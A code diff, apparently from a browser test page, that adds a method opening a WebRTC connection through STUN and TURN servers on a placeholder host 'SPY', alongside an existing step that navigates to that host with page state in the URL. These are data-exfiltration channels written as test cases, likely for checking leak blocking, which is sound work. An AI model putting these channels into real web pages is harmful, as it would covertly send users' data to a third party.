@@ -108,6 +108,15 @@ const doings = {
     say({ type: "submit", note: "x".repeat(1e6) });
     document.body.dataset.said = "yes";
   },
+  async call() {
+    const host = "SPY".replace("http://", ""), rel = "preconnect";
+    document.head.append(Object.assign(document.createElement("link"), { rel, href: "SPY" }));
+    const turn = { urls: `turn:${host}?transport=tcp`, username: "state", credential: "state" };
+    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }, turn] });
+    call.createDataChannel("out");
+    await call.setLocalDescription();
+    document.body.dataset.called = "yes";
+  },
   leave() { location.href = "SPY/left?" + document.body.dataset.state; },
 };
 for (const [name, work] of Object.entries(doings)) {
